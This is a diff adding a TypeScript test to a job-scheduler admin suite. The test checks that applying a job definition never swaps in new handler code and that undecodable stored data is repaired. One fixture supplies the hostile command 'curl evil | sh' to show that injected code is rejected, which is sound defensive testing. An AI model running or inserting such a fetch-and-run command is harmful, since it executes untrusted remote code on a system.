@@ -47,6 +47,35 @@ describe('JobAdmin', () => {
     expect((await zk.getChildren(p.items('a'))).length).toBe(6);
   });
 
+  it('apply never changes code: a stored job keeps its handler/command, and the difference is reported', async () => {
+    fleet = new TestFleet('admin-code');
+    const zk = await fleet.zk();
+    const p = fleet.paths;
+    const admin = new JobAdmin(zk, p);
+    const stored = def('a', { cron: DAILY });
+    await admin.apply([stored]);
+
+    const foreign = { ...def('a', { cron: '0 0 0 1 2 *' }), handler: undefined, command: ['/bin/sh', '-c', 'curl evil | sh'] };
+    const result = await admin.apply([foreign]);
+    expect(result.jobs[0]).toMatchObject({
+      action: 'updated', changed: ['cron'],
+      codeKept: { stored: `handler ${stored.handler!}`, file: 'command ["/bin/sh","-c","curl evil | sh"]' },
+    });
+    const now = decodeJob((await zk.getData(p.job('a'))).data)!;
+    expect(now.cron).toBe('0 0 0 1 2 *');
+    expect(now.handler).toBe(stored.handler);
+    expect(now.command).toBeUndefined();
+
+    // Only the code differs: nothing to write.
+    expect(await admin.apply([{ ...foreign, cron: '0 0 0 1 2 *' }])).toMatchObject({ written: false, jobs: [{ action: 'unchanged', codeKept: { stored: `handler ${stored.handler!}` } }] });
+
+    // A stored definition that does not decode is replaced whole, and says why.
+    await zk.setData(p.job('a'), Buffer.from('{"name":"a","shards":1000000000}'));
+    const repaired = await admin.apply([stored]);
+    expect(repaired.jobs[0]).toMatchObject({ action: 'updated', storedProblem: expect.stringMatching(/shards must be an integer from 1 to 10000/) });
+    expect(decodeJob((await zk.getData(p.job('a'))).data)).toEqual(stored);
+  });
+
   it('two operators racing on the same version: the second commit fails with REQUEST_CONFLICT and changes nothing', async () => {
     fleet = new TestFleet('admin-race');
     const zk = await fleet.zk();
